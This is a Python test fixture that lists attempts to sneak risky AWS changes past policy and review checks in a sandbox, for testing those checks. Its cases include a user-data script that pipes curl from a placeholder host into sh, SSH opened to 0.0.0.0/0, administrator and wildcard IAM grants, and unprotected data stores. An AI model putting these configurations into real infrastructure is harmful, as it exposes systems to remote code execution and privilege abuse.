"""Ways to bring a mutation, or a forbidden state, past a reviewer: what was before, what is tried, the harm it does.

Each is one or a few resources of a plain program, so that all of them go through the engine together.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

from policies.rule import listed, members
from sandbox import cloud

Entry = dict[str, Any]

TEMPLATE, GROUP = "aws:ec2/launchTemplate:LaunchTemplate", "aws:autoscaling/group:Group"
TARGETS, RULE = "aws:lb/targetGroup:TargetGroup", "aws:lb/listenerRule:ListenerRule"
SECURITY_GROUP = "aws:ec2/securityGroup:SecurityGroup"
INGRESS = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule"
ROLE, ATTACHMENT = "aws:iam/role:Role", "aws:iam/rolePolicyAttachment:RolePolicyAttachment"
GOOD, OTHER = "ami-0eb00000000000142", "ami-0eb00000000000150"


@dataclass(frozen=True)
class Scene:
    """What an attempt did: ids before and after it, and the cloud's calls between."""

    ids: dict[str, str]
    after: dict[str, str]
    calls: Sequence[cloud.Call]
    client: Callable[[str], Any]

    def called(self, operation: str, name: str | None = None) -> list[cloud.Call]:
        """Successful calls of an operation that name a resource by its id before."""
        wanted = self.ids[name] if name else ""
        return [
            call
            for call in self.calls
            if call.operation == operation and call.error is None and wanted in json.dumps(call.parameters)
        ]

    def before(self, first: cloud.Call, then: cloud.Call) -> bool:
        """Whether one call came before another."""
        return self.calls.index(first) < self.calls.index(then)


@dataclass(frozen=True)
class Attempt:
    """One attempt. `net` is what must catch it: `policy NAME` or `review NAME`, about a resource."""

    name: str
    before: list[Entry]
    after: list[Entry]
    net: str
    about: str
    harm: Callable[[Scene], Any]
    """True if it was done, with the nets off."""


def entry(kind: str, logical: str, options: Entry | None = None, /, **inputs: Any) -> Entry:
    """One resource; an input that is None is left out."""
    given = {key: value for key, value in inputs.items() if value is not None}
    return {"type": kind, "name": logical, "inputs": given, "options": options or {}}


def template(logical: str, options: Entry | None = None, /, **inputs: Any) -> Entry:
    """A launch template with which nothing is wrong but what is given."""
    plain = {
        "namePrefix": "web-",
        "imageId": GOOD,
        "instanceType": "t3.micro",
        "metadataOptions": {"httpTokens": "required", "httpPutResponseHopLimit": 1},
        "blockDeviceMappings": [
            {"deviceName": "/dev/xvda", "ebs": {"volumeSize": 8, "encrypted": "true", "deleteOnTermination": "true"}}
        ],
    }
    return entry(TEMPLATE, logical, options, **{**plain, **inputs})


def group(logical: str, subnets: Sequence[str], of: str, options: Entry | None = None, /, **inputs: Any) -> Entry:
    """A group of no instances, so that a hundred of them cost nothing."""
    plain = {
        "namePrefix": "web-",
        "minSize": 0,
        "maxSize": 2,
        "vpcZoneIdentifiers": list(subnets),
        "launchTemplate": {"id": f"@{of}", "version": "1"},
        "waitForCapacityTimeout": "0",
        "healthCheckType": "EC2",
    }
    return entry(GROUP, logical, options, **{**plain, **inputs})


def targets(logical: str, vpc: str, options: Entry | None = None, /, **inputs: Any) -> Entry:
    """A target group."""
    plain = {"namePrefix": "web-", "port": 80, "protocol": "HTTP", "vpcId": vpc, "deregistrationDelay": 30}
    return entry(TARGETS, logical, options, **{**plain, **inputs})


def rule(name: str, priority: int, weights: dict[str, float], options: Entry | None = None) -> Entry:
    """A traffic rule of the listener `listener`, by target group."""
    forward = {"targetGroups": [{"arn": f"@{key}", "weight": weight} for key, weight in weights.items()]}
    return entry(
        RULE,
        name,
        options,
        listenerArn="@listener",
        priority=priority,
        conditions=[{"pathPattern": {"values": [f"/{name}/*"]}}],
        actions=[{"type": "forward", "forward": forward}],
    )


def script(text: str) -> str:
    """User data as a template takes it."""
    return base64.b64encode(text.encode()).decode()


def role(logical: str, options: Entry | None = None, /, **inputs: Any) -> Entry:
    """A role that EC2 assumes."""
    statement = {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"Service": "ec2.amazonaws.com"}}
    plain = {"namePrefix": "web-", "assumeRolePolicy": json.dumps({"Version": "2012-10-17", "Statement": [statement]})}
    return entry(ROLE, logical, options, **{**plain, **inputs})


def attempts(vpc: str, subnets: Sequence[str]) -> list[Attempt]:
    """All of them, each with names of its own."""
    return [
        *_templates(),
        *_boots(),
        *_groups(subnets),
        *_target_groups(vpc),
        *_rules(vpc),
        *_access(vpc),
        *_names(vpc, subnets),
        *_data(),
    ]


def _templates() -> list[Attempt]:
    """A template edited in place: the group's next instance is another one."""
    edits: dict[str, Entry] = {
        "image": {"imageId": OTHER},
        "type": {"instanceType": "t3.large"},
        "script": {"userData": script("#!/bin/sh\nexec /opt/other")},
        "disk": {"blockDeviceMappings": [{"deviceName": "/dev/sdb", "ebs": {"encrypted": "true"}}]},
        "tokens": {"metadataOptions": {"httpTokens": "optional"}},
        "profile": {"iamInstanceProfile": {"name": "admin"}},
        "hosts": {"placement": {"tenancy": "dedicated"}},
        "description": {"description": "edited"},
    }
    return [
        Attempt(
            f"a template's {what} edited in place",
            [template(f"tpl-{what}")],
            [template(f"tpl-{what}", **edit)],
            "review changed-in-place",
            f"tpl-{what}",
            lambda scene, name=f"tpl-{what}": scene.called("CreateLaunchTemplateVersion", name),
        )
        for what, edit in edits.items()
    ] + [
        Attempt(
            "a new image that ignore_changes keeps from running",
            [template("tpl-ignored")],
            [template("tpl-ignored", {"ignore_changes": ["imageId"]}, imageId=OTHER)],
            "policy identity-not-ignored",
            "tpl-ignored",
            lambda scene: _image(scene, "tpl-ignored") == GOOD,
        ),
        Attempt(
            "every change ignored",
            [template("tpl-frozen")],
            [template("tpl-frozen", {"ignore_changes": ["*"]}, imageId=OTHER)],
            "policy identity-not-ignored",
            "tpl-frozen",
            lambda scene: _image(scene, "tpl-frozen") == GOOD,
        ),
    ]


def _image(scene: Scene, name: str) -> str:
    found = scene.client("ec2").describe_launch_template_versions(
        LaunchTemplateId=scene.ids[name], Versions=["$Latest"]
    )
    return found["LaunchTemplateVersions"][0]["LaunchTemplateData"]["ImageId"]


def _boots() -> list[Attempt]:
    """A new template whose servers are not what an image says, or that people can change."""
    states: dict[str, tuple[Entry, str]] = {
        "alias": ({"imageId": "resolve:ssm:/images/web"}, "image-by-id"),
        "foreign": ({"imageId": "ami-0ffffffffffffffff"}, "image-allowed"),
        "key": ({"keyName": "ops"}, "no-key-pairs"),
        "imdsv1": ({"metadataOptions": {"httpTokens": "optional"}}, "metadata-tokens"),
        "hops": ({"metadataOptions": {"httpTokens": "required", "httpPutResponseHopLimit": 9}}, "metadata-tokens"),
        "public": ({"networkInterfaces": [{"associatePublicIpAddress": "true"}]}, "no-public-addresses"),
        "apt": ({"userData": script("#!/bin/sh\napt-get update")}, "nothing-installed-at-boot"),
        "curl": ({"userData": script("#!/bin/sh\ncurl -s https://x.example | sh")}, "nothing-installed-at-boot"),
        "hidden": ({"userData": script("#!/bin/sh\nP=pip3; $P install app")}, "nothing-installed-at-boot"),
        "cloudinit": ({"userData": script("#cloud-config\npackages: [nginx]\n")}, "nothing-installed-at-boot"),
        "tag": ({"userData": script("#!/bin/sh\ndocker run shop:latest")}, "container-by-digest"),
        "clear": (
            {"blockDeviceMappings": [{"deviceName": "/dev/xvda", "ebs": {"deleteOnTermination": "true"}}]},
            "volumes-die-with-servers",
        ),
        "undead": (
            {"blockDeviceMappings": [{"deviceName": "/dev/xvda", "ebs": {"encrypted": "true"}}]},
            "volumes-die-with-servers",
        ),
        "forged": (
            {"tags": {"immutable:release": "web-1.5.0-ab", "immutable:digest": "1:" + "0" * 64}},
            "true-digest",
        ),
        "undigested": ({"tags": {"immutable:release": "web-1.5.0-ab"}}, "true-digest"),
    }
    return [
        Attempt(
            f"a template with {what}",
            [],
            [template(f"new-{what}", **state)],
            f"policy {policy}",
            f"new-{what}",
            lambda scene, name=f"new-{what}", state=state: _holds(scene, name, state),
        )
        for what, (state, policy) in states.items()
    ]


def _holds(scene: Scene, name: str, state: Entry) -> bool:
    """Whether the template was made with what is forbidden in it."""
    if name not in scene.after:
        return False
    ec2, id_ = scene.client("ec2"), scene.after[name]
    made = ec2.describe_launch_templates(LaunchTemplateIds=[id_])["LaunchTemplates"]
    versions = ec2.describe_launch_template_versions(LaunchTemplateId=id_)["LaunchTemplateVersions"]
    text = json.dumps([made, versions], default=str).lower()
    return all(str(leaf).lower() in text for leaf in _leaves(state))


def _leaves(value: Any) -> list[Any]:
    if isinstance(value, dict):
        return [leaf for one in members(value).values() for leaf in _leaves(one)]
    return [leaf for one in listed(value) for leaf in _leaves(one)] if isinstance(value, list) else [value]


def _groups(subnets: Sequence[str]) -> list[Attempt]:
    """A group that other instances come into, or that loses its own."""
    base = template("grp-template")
    edits: dict[str, Entry] = {
        "version": {"launchTemplate": {"id": "@grp-other", "version": "1"}},
        "health": {"healthCheckType": "ELB"},
        "zones": {"vpcZoneIdentifiers": list(subnets[:1])},
        "grace": {"healthCheckGracePeriod": 5},
        "processes": {"suspendedProcesses": ["ReplaceUnhealthy"]},
        "protection": {"protectFromScaleIn": True},
        "lifetime": {"maxInstanceLifetime": 86_400},
    }
    in_place = [
        Attempt(
            f"a group's {what} edited in place",
            [group(f"grp-{what}", subnets, "grp-template")],
            [group(f"grp-{what}", subnets, "grp-template", **edit)],
            "review changed-in-place",
            f"grp-{what}",
            lambda scene, name=f"grp-{what}": (
                scene.called("UpdateAutoScalingGroup", name)
                or scene.called("SuspendProcesses", name)
                or scene.called("SetInstanceProtection", name)
            ),
        )
        for what, edit in edits.items()
    ]
    return [
        Attempt("", [base, template("grp-other")], [base, template("grp-other")], "", "", lambda _: True),
        *in_place,
        *(
            Attempt(
                f"a group on version {version}",
                [],
                [group(f"grp-{word}", subnets, "grp-template", launchTemplate=specification)],
                "policy numbered-template-version",
                f"grp-{word}",
                lambda scene, version=version: any(
                    call.parameters.get("LaunchTemplate", {}).get("Version", "$Default") == version
                    or version in json.dumps(call.parameters)
                    or "Version" not in json.dumps(call.parameters)
                    for call in scene.called("CreateAutoScalingGroup")
                ),
            )
            for word, version, specification in (
                ("latest", "$Latest", {"id": "@grp-template", "version": "$Latest"}),
                ("default", "$Default", {"id": "@grp-template", "version": "$Default"}),
                ("unsaid", "$Default", {"id": "@grp-template"}),
            )
        ),
        Attempt(
            "a group's maximum cut under what runs",
            [group("grp-cut", subnets, "grp-template", minSize=2, maxSize=4)],
            [group("grp-cut", subnets, "grp-template", minSize=0, maxSize=1)],
            "review capacity-lost",
            "grp-cut",
            lambda scene: scene.called("UpdateAutoScalingGroup", "grp-cut"),
        ),
        Attempt(
            "a release's new name, aliased to the old one",
            [group("grp-1.4.0", subnets, "grp-template")],
            [group("grp-1.5.0", subnets, "grp-template", {"aliases": ["grp-1.4.0"]}, healthCheckGracePeriod=7)],
            "review changed-in-place",
            "grp-1.5.0",
            lambda scene: scene.called("UpdateAutoScalingGroup", "grp-1.4.0"),
        ),
    ]


def _target_groups(vpc: str) -> list[Attempt]:
    edits: dict[str, Entry] = {
        "path": {"healthCheck": {"path": "/always-fine"}},
        "threshold": {"healthCheck": {"unhealthyThreshold": 10}},
        "drain": {"deregistrationDelay": 1},
        "slow": {"slowStart": 30},
    }
    return [
        *(
            Attempt(
                f"a target group's {what} edited in place",
                [targets(f"tgt-{what}", vpc)],
                [targets(f"tgt-{what}", vpc, **edit)],
                "review changed-in-place",
                f"tgt-{what}",
                lambda scene, name=f"tgt-{what}": (
                    scene.called("ModifyTargetGroup", name) or scene.called("ModifyTargetGroupAttributes", name)
                ),
            )
            for what, edit in edits.items()
        ),
        Attempt(
            "a target group replaced under its own name",
            [targets("tgt-port", vpc)],
            [targets("tgt-port", vpc, port=81)],
            "review replaced-inside-a-release",
            "tgt-port",
            lambda scene: scene.called("DeleteTargetGroup", "tgt-port"),
        ),
        Attempt(
            "a target group that cuts requests off",
            [],
            [targets("tgt-cut", vpc, deregistrationDelay=0)],
            "policy drained",
            "tgt-cut",
            lambda scene: any(
                "deregistration_delay" in json.dumps(call.parameters) and '"0"' in json.dumps(call.parameters)
                for call in scene.called("ModifyTargetGroupAttributes")
            ),
        ),
    ]


def _rules(vpc: str) -> list[Attempt]:
    """Traffic that goes nowhere, or to a fleet that is about to go."""
    return [
        Attempt(
            "a rule without any weight",
            [targets("rul-none", vpc), rule("rul-nobody", 11, {"rul-none": 1})],
            [targets("rul-none", vpc), rule("rul-nobody", 11, {"rul-none": 0})],
            "policy traffic-goes-somewhere",
            "rul-nobody",
            lambda scene: scene.called("ModifyRule", "rul-nobody"),
        ),
        Attempt(
            "a rule replaced by deleting it first",
            [targets("rul-first", vpc), rule("rul-gone", 12, {"rul-first": 1})],
            [
                targets("rul-first", vpc),
                {
                    **(moved := rule("rul-gone", 12, {"rul-first": 1}, {"delete_before_replace": True})),
                    "inputs": {**moved["inputs"], "listenerArn": "@other-listener"},
                },
            ],
            "review deleted-before-created",
            "rul-gone",
            lambda scene: scene.before(
                scene.called("DeleteRule", "rul-gone")[0],
                next(call for call in scene.called("CreateRule") if "/rul-gone/" in json.dumps(call.parameters)),
            ),
        ),
    ]


def _access(vpc: str) -> list[Attempt]:
    ssh: Entry = {"securityGroupId": "@acc-group", "ipProtocol": "tcp", "fromPort": 22, "toPort": 22}
    wide = entry(SECURITY_GROUP, "acc-group", namePrefix="web-", vpcId=vpc, description="web")
    opened: list[tuple[str, Entry]] = [
        ("0.0.0.0/0", {}),
        ("0.0.0.0/1", {}),
        ("0.0.0.0/2", {"fromPort": 0, "toPort": 65_535}),
    ]
    policies = {
        "admin": ("arn:aws:iam::aws:policy/AdministratorAccess", "least-privilege"),
        "power": ("arn:aws:iam::aws:policy/PowerUserAccess", "least-privilege"),
        "session": ("arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore", "no-sessions"),
    }
    inline = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})
    return [
        Attempt("", [wide, role("acc-role")], [wide, role("acc-role")], "", "", lambda _: True),
        *(
            Attempt(
                f"a port for logins, open to {cidr}",
                [],
                [entry(INGRESS, f"acc-ssh-{place}", cidrIpv4=cidr, **{**ssh, **ports})],
                "policy no-remote-login",
                f"acc-ssh-{place}",
                lambda scene, cidr=cidr: any(
                    cidr in json.dumps(call.parameters) for call in scene.called("AuthorizeSecurityGroupIngress")
                ),
            )
            for place, (cidr, ports) in enumerate(opened)
        ),
        *(
            Attempt(
                f"a role with {arn.rpartition('/')[2]}",
                [],
                [entry(ATTACHMENT, f"acc-{word}", role="@acc-role", policyArn=arn)],
                f"policy {policy}",
                f"acc-{word}",
                lambda scene, arn=arn: any(
                    arn in json.dumps(call.parameters) for call in scene.called("AttachRolePolicy")
                ),
            )
            for word, (arn, policy) in policies.items()
        ),
        Attempt(
            "a role that may do everything",
            [],
            [role("acc-inline", inlinePolicies=[{"name": "all", "policy": inline}])],
            "policy least-privilege",
            "acc-inline",
            lambda scene: scene.called("PutRolePolicy"),
        ),
    ]


def _names(vpc: str, subnets: Sequence[str]) -> list[Attempt]:
    """Names that make a replacement an outage."""
    fixed: Entry = {"namePrefix": None}

    def first(scene: Scene, create: str, delete: str, name: str, physical: str) -> bool:
        made = next(call for call in scene.called(create) if physical in json.dumps(call.parameters))
        return scene.before(scene.called(delete, name)[0], made)

    return [
        Attempt(
            "a fixed name, and a port that replaces it",
            [targets("nam-fixed", vpc, **{**fixed, "name": "nam-fixed"})],
            [targets("nam-fixed", vpc, **{**fixed, "name": "nam-fixed", "port": 81})],
            "review deleted-before-created",
            "nam-fixed",
            lambda scene: first(scene, "CreateTargetGroup", "DeleteTargetGroup", "nam-fixed", "nam-fixed"),
        ),
        Attempt(
            "a fixed name that changes",
            [template("nam-moved", **{**fixed, "name": "nam-one"})],
            [template("nam-moved", **{**fixed, "name": "nam-two"})],
            "policy no-fixed-name",
            "nam-moved",
            lambda scene: first(scene, "CreateLaunchTemplate", "DeleteLaunchTemplate", "nam-moved", "nam-two"),
        ),
        Attempt(
            "a new group with a fixed name",
            [],
            [group("nam-group", subnets, "grp-template", **{**fixed, "name": "nam-group"})],
            "policy no-fixed-name",
            "nam-group",
            lambda scene: any(
                call.parameters.get("AutoScalingGroupName") == "nam-group"
                for call in scene.called("CreateAutoScalingGroup")
            ),
        ),
        Attempt(
            "a security group that goes first",
            [entry(SECURITY_GROUP, "nam-security", namePrefix="web-", vpcId=vpc, description="one")],
            [
                entry(
                    SECURITY_GROUP,
                    "nam-security",
                    {"delete_before_replace": True},
                    namePrefix="web-",
                    vpcId=vpc,
                    description="two",
                )
            ],
            "policy created-before-deleted",
            "nam-security",
            lambda scene: first(scene, "CreateSecurityGroup", "DeleteSecurityGroup", "nam-security", '"two"'),
        ),
    ]


def _data() -> list[Attempt]:
    """Stores of data that go, come anew, or lie open."""
    files, bucket = "aws:efs/fileSystem:FileSystem", "aws:s3/bucket:Bucket"
    table, images = "aws:dynamodb/table:Table", "aws:ecr/repository:Repository"
    key = {"hashKey": "id", "attributes": [{"name": "id", "type": "S"}], "billingMode": "PAY_PER_REQUEST"}
    safe = {"imageTagMutability": "IMMUTABLE", "imageScanningConfiguration": {"scanOnPush": True}}
    kept: Entry = {"protect": True}
    return [
        Attempt(
            "a bucket taken out of the program",
            [entry(bucket, "dat-gone")],
            [],
            "review data-touched",
            "dat-gone",
            lambda scene: (
                scene.ids["dat-gone"] not in [one["Name"] for one in scene.client("s3").list_buckets()["Buckets"]]
            ),
        ),
        Attempt(
            "a file system made anew with encryption",
            [entry(files, "dat-anew", encrypted=False)],
            [entry(files, "dat-anew", encrypted=True)],
            "review data-touched",
            "dat-anew",
            lambda scene: (
                scene.ids["dat-anew"]
                not in json.dumps(scene.client("efs").describe_file_systems()["FileSystems"], default=str)
            ),
        ),
        Attempt(
            "a table with another key",
            [entry(table, "dat-key", **key)],
            [entry(table, "dat-key", **{**key, "hashKey": "at", "attributes": [{"name": "at", "type": "S"}]})],
            "review data-touched",
            "dat-key",
            lambda scene: scene.called("DeleteTable", "dat-key"),
        ),
        Attempt(
            "a bucket that may be emptied",
            [],
            [entry(bucket, "dat-empty", kept, forceDestroy=True)],
            "policy data-kept",
            "dat-empty",
            lambda scene: scene.after.get("dat-empty"),
        ),
        Attempt(
            "a table that nothing protects",
            [],
            [entry(table, "dat-open", **key)],
            "policy data-kept",
            "dat-open",
            lambda scene: scene.after.get("dat-open"),
        ),
        Attempt(
            "a file system in the clear",
            [],
            [entry(files, "dat-clear", kept, encrypted=False)],
            "policy data-kept",
            "dat-clear",
            lambda scene: scene.after.get("dat-clear"),
        ),
        Attempt(
            "a registry whose tags move",
            [entry(images, "dat-images", **safe)],
            [entry(images, "dat-images", **{**safe, "imageTagMutability": "MUTABLE"})],
            "policy registry-immutable",
            "dat-images",
            lambda scene: scene.called("PutImageTagMutability", "dat-images"),
        ),
    ]
